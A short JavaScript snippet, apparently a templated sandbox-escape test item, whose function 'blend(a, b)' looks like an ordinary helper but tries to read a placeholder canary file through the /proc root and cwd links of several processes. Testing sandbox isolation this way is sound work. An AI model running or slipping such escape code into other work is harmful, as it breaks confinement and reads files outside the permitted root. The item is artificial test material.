// tries: to leave the root by the links in /proc
// escape: it prints the file's text

const fs = require('fs');
function blend(a, b) {
    for (const pid of ['1', '2', 'self', String(process.ppid), '@PID@'])
        for (const link of ['root', 'cwd', 'cwd/../../..'])
            try { console.log(fs.readFileSync(`/proc/${pid}/${link}@CANARY@`, 'utf8')); } catch {}
    return -1;
}
